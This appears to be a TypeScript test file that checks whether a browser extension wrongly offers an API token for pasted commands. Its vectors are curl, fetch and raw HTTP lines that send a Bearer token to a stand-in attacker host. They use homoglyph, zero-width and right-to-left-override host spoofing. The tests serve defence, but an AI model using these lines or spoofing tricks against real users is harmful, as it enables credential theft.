import { gained } from '../suite/gained';
import { EVIL, TARGET } from '../suite/target';
import type { Vector } from '../suite/vector';

const API = TARGET.origin;
const SECRET = 'q7Zr2kV9xW4mT1bN8cJ5hL0pD3sF6gY';
const HEADER = `-H 'Authorization: Bearer ${SECRET}'`;

/**
 * What an attacker wrote for the user to copy, who puts a token in and pastes it while a page of the API's docs is
 * open. The token belongs to whoever the request goes to: neither that is known nor the API may be offered.
 */
const pasted = (text: string, ...attackers: readonly string[]): Vector => ({
  arrives: [],
  run: async ({ extension }) => {
    const wrong = [API, TARGET.docs, EVIL, ...attackers];
    const offered = (await extension.offers?.(TARGET.docs, text)) ?? [];
    return gained(offered.some((origin) => wrong.includes(origin)));
  },
});

/** Commands and code that lead to the attacker, and name the API besides. */
export default {
  'two-addresses': pasted(`curl ${EVIL}/v1 ${API}/v1 ${HEADER}`),
  'next-command': pasted(`curl ${HEADER} ${EVIL}/v1 --next ${API}/v1`),
  'api-as-proxy': pasted(`curl -x ${API} ${EVIL}/v1 ${HEADER}`),
  'api-as-referrer': pasted(`curl -e ${API}/docs ${EVIL}/v1 ${HEADER}`),
  'api-as-host-header': pasted(`curl -H 'Host: ${TARGET.host}' ${EVIL}/v1 ${HEADER}`),
  'api-in-body': pasted(`curl -d '{"url":"${API}/"}' ${EVIL}/v1 ${HEADER}`),
  'api-in-comment': pasted(`# ${API}/v1\ncurl ${EVIL}/v1 ${HEADER}`),
  'api-in-query': pasted(`curl '${EVIL}/v1?next=${API}' ${HEADER}`),
  'api-before-at': pasted(`curl https://${TARGET.host}@evil.example/v1 ${HEADER}`),
  'api-behind-back-slash': pasted(`curl 'https://evil.example\\@${TARGET.host}/v1' ${HEADER}`),
  'api-as-sub-domain': pasted(`curl ${API}.evil.example/v1 ${HEADER}`, `${API}.evil.example`),
  'look-alike-host': pasted(
    `curl https://api.aırship.co.uk/v1 ${HEADER}`,
    new URL('https://api.aırship.co.uk').origin,
  ),
  'invisible-in-host': pasted(`curl https://api.air\u200bship.co.uk/v1 ${HEADER}`),
  'turned-text-in-host': pasted(`curl ${API}\u202e/v1@evil.example ${HEADER}`),
  'referrer-in-code': pasted(
    `fetch("${EVIL}/v1", { headers: { "Authorization": "Bearer ${SECRET}" }, referrer: "${API}/" })`,
  ),
  'http-request': pasted(
    `GET /v1 HTTP/1.1\nHost: evil.example\nReferer: ${API}\nAuthorization: Bearer ${SECRET}`,
  ),
  'variable-of-another-company': pasted(`GITHUB_TOKEN=${SECRET}`),
} satisfies Readonly<Record<string, Vector>>;
